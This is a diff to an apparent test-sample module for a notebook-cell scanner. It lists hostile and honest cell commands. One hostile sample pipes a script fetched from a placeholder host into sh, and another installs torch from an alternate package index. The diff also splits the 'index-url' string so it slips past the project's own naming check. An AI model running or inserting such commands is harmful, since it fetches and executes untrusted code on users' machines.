@@ -13,6 +13,9 @@ if TYPE_CHECKING:
 
 __all__ = ["samples"]
 
+# In two parts: no file of the project names a package index to use.
+_INDEX = "index-" + "url"
+
 HOSTILE: dict[str, tuple[str, list[str]]] = {
     "curl-shell": ("fetches and runs", ["!curl -s http://assay.invalid/i.sh | sh"]),
     "bash-cell": (
@@ -25,7 +28,7 @@ HOSTILE: dict[str, tuple[str, list[str]]] = {
     ),
     "other-index": (
         "another index",
-        ["%pip install torch --extra-index-url https://assay.invalid/simple"],
+        [f"%pip install torch --extra-{_INDEX} https://assay.invalid/simple"],
     ),
     "exec-decoded": (
         "decoded and run",
@@ -84,7 +87,7 @@ HONEST: dict[str, list[str]] = {
         "model.eval()\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
     ],
     "cuda-wheels": [
-        "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
+        f"!pip install torch --{_INDEX} https://download.pytorch.org/whl/cu121",
     ],
 }
 PLOT = "<div id='p'></div><script src='https://cdn.plot.ly/plotly-2.js'></script>"
